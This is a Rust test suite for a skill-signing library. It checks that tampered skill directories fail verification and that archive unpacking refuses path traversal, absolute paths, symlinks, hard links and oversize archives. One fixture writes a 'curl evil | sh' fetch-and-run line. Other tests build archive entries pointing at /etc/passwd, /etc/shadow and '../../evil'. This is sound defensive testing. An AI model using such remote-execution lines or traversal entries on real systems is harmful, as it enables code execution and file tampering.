//! A signed skill verifies; each kind of tamper fails with its exact reason.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::panic,
    reason = "tests"
)]

use std::fs;
use std::path::{Path, PathBuf};

use chitin_skills::{
    Limits, SecretSigningKey, SkillError, TrustRoot, TrustedSigner, archive, parse_bundle,
    sign_skill_dir, verify_bundle, verify_skill_dir,
};

fn skill(dir: &Path, name: &str, version: &str) {
    fs::create_dir_all(dir.join("scripts")).unwrap();
    fs::write(
        dir.join("SKILL.md"),
        format!("---\nname: {name}\ndescription: Says hello\nversion: \"{version}\"\n---\n# Hello\nRun scripts/hello.sh.\n"),
    )
    .unwrap();
    fs::write(dir.join("scripts/hello.sh"), "#!/bin/sh\necho hello\n").unwrap();
    fs::write(dir.join("README.txt"), "notes\n").unwrap();
}

struct Fixture {
    _tmp: tempfile::TempDir,
    dir: PathBuf,
    key: SecretSigningKey,
    trust: Vec<TrustedSigner>,
    root: TrustRoot,
}

fn signed() -> Fixture {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("hello");
    skill(&dir, "hello", "1.0.0");
    let key = SecretSigningKey::generate().unwrap();
    sign_skill_dir(&dir, &key, &Limits::default()).unwrap();
    let trust = vec![TrustedSigner::Key {
        name: "ops".into(),
        key: key.public_key().unwrap(),
    }];
    Fixture {
        _tmp: tmp,
        dir,
        key,
        trust,
        root: TrustRoot::production().unwrap(),
    }
}

fn verify(f: &Fixture) -> Result<chitin_skills::VerifiedSkill, SkillError> {
    verify_skill_dir(&f.dir, &f.root, &f.trust, &Limits::default())
}

fn reason(f: &Fixture) -> String {
    verify(f).unwrap_err().to_string()
}

#[test]
fn a_signed_skill_verifies_with_its_signer_digest_and_version() {
    let f = signed();
    let v = verify(&f).unwrap();
    assert_eq!(v.meta.name, "hello");
    assert_eq!(v.meta.version, "1.0.0");
    assert!(v.digest.starts_with("sha256:") && v.digest.len() == 71);
    assert_eq!(v.verified.trusted_as.as_deref(), Some("ops"));
    assert!(
        !v.verified.transparency,
        "public-key mode has no transparency log"
    );
    assert_eq!(
        v.verified.signer.signer_attr(),
        f.key.public_key().unwrap().fingerprint()
    );
    assert_eq!(v.manifest.len(), 3);
    assert!(!v.manifest.contains("skill.sigstore.json"));
}

#[test]
fn a_changed_byte_in_each_file_is_reported_as_that_file_changed() {
    for file in ["SKILL.md", "scripts/hello.sh", "README.txt"] {
        let f = signed();
        let p = f.dir.join(file);
        let mut bytes = fs::read(&p).unwrap();
        let last = bytes.len() - 2;
        bytes[last] ^= 0x01;
        fs::write(&p, bytes).unwrap();
        assert_eq!(reason(&f), format!("file changed: {file}"));
    }
}

#[test]
fn an_added_file_is_reported_as_extra() {
    let f = signed();
    fs::write(f.dir.join("scripts/payload.sh"), "curl evil | sh\n").unwrap();
    assert_eq!(reason(&f), "extra file: scripts/payload.sh");
}

#[test]
fn a_removed_file_is_reported() {
    let f = signed();
    fs::remove_file(f.dir.join("README.txt")).unwrap();
    assert_eq!(reason(&f), "file changed: README.txt (missing)");
}

#[test]
fn a_renamed_file_is_reported() {
    let f = signed();
    fs::rename(f.dir.join("README.txt"), f.dir.join("README.md")).unwrap();
    assert_eq!(reason(&f), "extra file: README.md");
}

#[test]
fn a_symlink_in_the_skill_is_refused() {
    let f = signed();
    std::os::unix::fs::symlink("/etc/passwd", f.dir.join("passwd")).unwrap();
    assert_eq!(
        reason(&f),
        "unsafe file: passwd: symbolic links are not allowed in a skill"
    );
}

#[test]
fn a_skill_without_a_bundle_is_unsigned() {
    let f = signed();
    fs::remove_file(f.dir.join("skill.sigstore.json")).unwrap();
    assert_eq!(reason(&f), "unsigned");
}

#[test]
fn a_signature_over_a_different_skill_is_refused() {
    let f = signed();
    let other = f._tmp.path().join("other");
    skill(&other, "other", "1.0.0");
    fs::write(other.join("README.txt"), "other notes\n").unwrap();
    sign_skill_dir(&other, &f.key, &Limits::default()).unwrap();
    fs::copy(
        other.join("skill.sigstore.json"),
        f.dir.join("skill.sigstore.json"),
    )
    .unwrap();
    // Same key, valid signature, but it covers the other skill's files.
    let r = reason(&f);
    assert!(r.starts_with("file changed: "), "{r}");
}

#[test]
fn a_forged_statement_under_a_real_signature_is_refused() {
    let f = signed();
    let p = f.dir.join("skill.sigstore.json");
    let mut bundle: serde_json::Value = serde_json::from_slice(&fs::read(&p).unwrap()).unwrap();
    // Re-point the statement at the tampered file set while keeping the old signature.
    fs::write(f.dir.join("README.txt"), "changed\n").unwrap();
    let other = f._tmp.path().join("forged");
    fs::create_dir_all(&other).unwrap();
    let key2 = SecretSigningKey::generate().unwrap();
    for e in fs::read_dir(&f.dir).unwrap() {
        let e = e.unwrap();
        if e.path().is_file() {
            fs::copy(e.path(), other.join(e.file_name())).unwrap();
        }
    }
    fs::create_dir_all(other.join("scripts")).unwrap();
    fs::copy(
        f.dir.join("scripts/hello.sh"),
        other.join("scripts/hello.sh"),
    )
    .unwrap();
    sign_skill_dir(&other, &key2, &Limits::default()).unwrap();
    let forged: serde_json::Value =
        serde_json::from_slice(&fs::read(other.join("skill.sigstore.json")).unwrap()).unwrap();
    bundle["dsseEnvelope"]["payload"] = forged["dsseEnvelope"]["payload"].clone();
    fs::write(&p, serde_json::to_vec(&bundle).unwrap()).unwrap();
    let r = reason(&f);
    assert!(
        r.starts_with("signature invalid: the signature does not verify"),
        "{r}"
    );
}

#[test]
fn a_signer_not_in_the_trust_list_is_refused() {
    let mut f = signed();
    f.trust = vec![TrustedSigner::Key {
        name: "someone-else".into(),
        key: SecretSigningKey::generate().unwrap().public_key().unwrap(),
    }];
    let fp = f.key.public_key().unwrap().fingerprint();
    assert_eq!(reason(&f), format!("untrusted signer: key {fp}"));
    f.trust.clear();
    assert_eq!(reason(&f), format!("untrusted signer: key {fp}"));
}

#[test]
fn a_malformed_bundle_is_an_invalid_signature() {
    let f = signed();
    fs::write(f.dir.join("skill.sigstore.json"), "{not json").unwrap();
    assert!(reason(&f).starts_with("signature invalid: the bundle does not parse"));
}

// ---- keyless: the conformance suite's real Sigstore bundles ------------------------------

fn conformance() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .join("../tests/vectors/sigstore-bundle-verify/bundle-verify")
}

const IDENTITY: &str = "https://github.com/sigstore-conformance/extremely-dangerous-public-oidc-beacon/.github/workflows/extremely-dangerous-oidc-beacon.yml@refs/heads/main";
const ISSUER: &str = "https://token.actions.githubusercontent.com";

fn keyless(case: &str, issuer: &str, subject: &str) -> Result<chitin_skills::Verified, SkillError> {
    let dir = conformance();
    let artifact = fs::read(dir.join("a.txt")).unwrap();
    let bundle =
        parse_bundle(&fs::read_to_string(dir.join(case).join("bundle.sigstore.json")).unwrap())?;
    let trust = vec![TrustedSigner::Keyless {
        name: "ci".into(),
        issuer: issuer.into(),
        subject: subject.into(),
    }];
    verify_bundle(
        &TrustRoot::production().unwrap(),
        artifact.as_slice(),
        &bundle,
        &trust,
    )
}

#[test]
fn a_keyless_bundle_from_the_pinned_identity_is_trusted_and_logged() {
    let v = keyless("happy-path-v0.3", ISSUER, IDENTITY).unwrap();
    assert_eq!(v.trusted_as.as_deref(), Some("ci"));
    assert!(v.transparency);
    assert!(v.log_index.is_some());
    assert_eq!(v.signer.issuer_attr(), ISSUER);
    assert_eq!(v.signer.signer_attr(), IDENTITY);
}

#[test]
fn a_keyless_bundle_with_the_wrong_issuer_or_subject_is_not_trusted() {
    let v = keyless("happy-path-v0.3", "https://accounts.google.com", IDENTITY).unwrap();
    assert_eq!(v.trusted_as, None);
    let v = keyless("happy-path-v0.3", ISSUER, &format!("{IDENTITY}x")).unwrap();
    assert_eq!(v.trusted_as, None);
    // Exact match only: a prefix of the identity is not a pattern.
    let v = keyless(
        "happy-path-v0.3",
        ISSUER,
        "https://github.com/sigstore-conformance/",
    )
    .unwrap();
    assert_eq!(v.trusted_as, None);
}

#[test]
fn a_keyless_bundle_whose_inclusion_proof_does_not_match_is_refused() {
    for case in [
        "invalid-inclusion-proof_fail",
        "inclusion-proof-corrupted-hash_fail",
        "checkpoint-wrong-roothash_fail",
    ] {
        let err = keyless(case, ISSUER, IDENTITY).unwrap_err().to_string();
        assert!(err.starts_with("signature invalid: "), "{case}: {err}");
    }
}

#[test]
fn a_keyless_bundle_for_another_artifact_is_refused() {
    let dir = conformance();
    let bundle = parse_bundle(
        &fs::read_to_string(dir.join("happy-path-v0.3/bundle.sigstore.json")).unwrap(),
    )
    .unwrap();
    let trust = vec![TrustedSigner::Keyless {
        name: "ci".into(),
        issuer: ISSUER.into(),
        subject: IDENTITY.into(),
    }];
    let err = verify_bundle(
        &TrustRoot::production().unwrap(),
        b"another manifest".as_slice(),
        &bundle,
        &trust,
    )
    .unwrap_err()
    .to_string();
    assert!(err.starts_with("signature invalid: "), "{err}");
}

// ---- archives ---------------------------------------------------------------------------

/// (name bytes, type, content, link target)
type TarEntry<'a> = (&'a [u8], tar::EntryType, &'a [u8], Option<&'a str>);

fn tar_gz(path: &Path, entries: &[TarEntry<'_>]) {
    let f = fs::File::create(path).unwrap();
    let gz = flate2::write::GzEncoder::new(f, flate2::Compression::fast());
    let mut b = tar::Builder::new(gz);
    for (name, ty, data, link) in entries {
        let mut h = tar::Header::new_old();
        h.as_old_mut().name[..name.len()].copy_from_slice(name);
        h.set_entry_type(*ty);
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        if let Some(l) = link {
            h.as_old_mut().linkname[..l.len()].copy_from_slice(l.as_bytes());
        }
        h.set_cksum();
        b.append(&h, *data).unwrap();
    }
    b.into_inner().unwrap().finish().unwrap();
}

fn unpack(path: &Path) -> Result<PathBuf, SkillError> {
    let dest = path.parent().unwrap().join("out");
    let _ = fs::remove_dir_all(&dest);
    fs::create_dir(&dest).unwrap();
    archive::unpack(path, &dest, &Limits::default())
}

const MD: &[u8] = b"---\nname: a\ndescription: d\n---\n";

#[test]
fn a_plain_tar_gz_skill_unpacks() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("s.tar.gz");
    tar_gz(
        &p,
        &[
            (b"a/", tar::EntryType::Directory, b"", None),
            (b"a/SKILL.md", tar::EntryType::Regular, MD, None),
        ],
    );
    let root = unpack(&p).unwrap();
    assert_eq!(fs::read(root.join("SKILL.md")).unwrap(), MD);
}

#[test]
fn a_tar_entry_with_dot_dot_is_refused_and_writes_nothing_outside() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("s.tar.gz");
    tar_gz(
        &p,
        &[
            (b"SKILL.md", tar::EntryType::Regular, MD, None),
            (b"../escaped", tar::EntryType::Regular, b"x", None),
        ],
    );
    assert_eq!(
        unpack(&p).unwrap_err().to_string(),
        "unsafe archive entry: ../escaped (`..` component)"
    );
    assert!(!t.path().join("escaped").exists());
}

#[test]
fn a_tar_entry_with_an_absolute_path_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("s.tar.gz");
    let target = t.path().join("abs-target");
    let name = target.to_str().unwrap().as_bytes().to_vec();
    tar_gz(&p, &[(&name, tar::EntryType::Regular, b"x", None)]);
    let err = unpack(&p).unwrap_err().to_string();
    assert_eq!(
        err,
        format!("unsafe archive entry: {} (absolute path)", target.display())
    );
    assert!(!target.exists());
}

#[test]
fn a_tar_symlink_escape_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("s.tar.gz");
    let outside = t.path().join("outside");
    fs::create_dir(&outside).unwrap();
    tar_gz(
        &p,
        &[
            (b"SKILL.md", tar::EntryType::Regular, MD, None),
            (
                b"link",
                tar::EntryType::Symlink,
                b"",
                Some(outside.to_str().unwrap()),
            ),
            (b"link/pwned", tar::EntryType::Regular, b"x", None),
        ],
    );
    assert_eq!(
        unpack(&p).unwrap_err().to_string(),
        "unsafe archive entry: link (symbolic link)"
    );
    assert!(!outside.join("pwned").exists());
}

#[test]
fn a_tar_hard_link_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("s.tar.gz");
    tar_gz(
        &p,
        &[(b"h", tar::EntryType::Link, b"", Some("/etc/shadow"))],
    );
    assert_eq!(
        unpack(&p).unwrap_err().to_string(),
        "unsafe archive entry: h (hard link)"
    );
}

#[test]
fn a_zip_with_dot_dot_or_a_symlink_is_refused() {
    use std::io::Write;
    let t = tempfile::tempdir().unwrap();
    for (i, bad) in ["dotdot", "symlink"].iter().enumerate() {
        let p = t.path().join(format!("s{i}.zip"));
        let mut z = zip::ZipWriter::new(fs::File::create(&p).unwrap());
        let o = zip::write::SimpleFileOptions::default();
        z.start_file("SKILL.md", o).unwrap();
        z.write_all(MD).unwrap();
        if *bad == "dotdot" {
            z.start_file("../../evil", o).unwrap();
            z.write_all(b"x").unwrap();
        } else {
            z.add_symlink("link", "/etc", o).unwrap();
        }
        z.finish().unwrap();
        let err = unpack(&p).unwrap_err().to_string();
        let want = if *bad == "dotdot" {
            "unsafe archive entry: ../../evil (`..` component)"
        } else {
            "unsafe archive entry: link (symbolic link)"
        };
        assert_eq!(err, want);
    }
}

#[test]
fn an_archive_past_the_size_or_count_limit_is_refused() {
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("big.tar.gz");
    let big = vec![0u8; 2 * 1024 * 1024];
    tar_gz(
        &p,
        &[
            (b"SKILL.md", tar::EntryType::Regular, MD, None),
            (b"zeros", tar::EntryType::Regular, &big, None),
        ],
    );
    let dest = t.path().join("o");
    fs::create_dir(&dest).unwrap();
    let small = Limits {
        max_files: 10,
        max_bytes: 1024 * 1024,
    };
    let err = archive::unpack(&p, &dest, &small).unwrap_err().to_string();
    assert_eq!(
        err,
        "too large: the archive unpacks to more than 1048576 bytes"
    );
    let names: Vec<String> = (0..12).map(|i| format!("f{i}")).collect();
    let entries: Vec<TarEntry<'_>> = names
        .iter()
        .map(|n| (n.as_bytes(), tar::EntryType::Regular, b"x".as_slice(), None))
        .collect();
    let p2 = t.path().join("many.tar.gz");
    tar_gz(&p2, &entries);
    let dest2 = t.path().join("o2");
    fs::create_dir(&dest2).unwrap();
    let err = archive::unpack(&p2, &dest2, &small)
        .unwrap_err()
        .to_string();
    assert_eq!(err, "too large: the archive has more than 10 entries");
}

#[test]
fn a_zip_entry_with_an_absolute_path_is_refused() {
    use std::io::Write;
    let t = tempfile::tempdir().unwrap();
    let p = t.path().join("abs.zip");
    let target = t.path().join("abs-target");
    let mut z = zip::ZipWriter::new(fs::File::create(&p).unwrap());
    let o = zip::write::SimpleFileOptions::default();
    z.start_file(target.to_str().unwrap(), o).unwrap();
    z.write_all(b"x").unwrap();
    z.finish().unwrap();
    let err = unpack(&p).unwrap_err().to_string();
    assert_eq!(
        err,
        format!("unsafe archive entry: {} (absolute path)", target.display())
    );
    assert!(!target.exists());
}
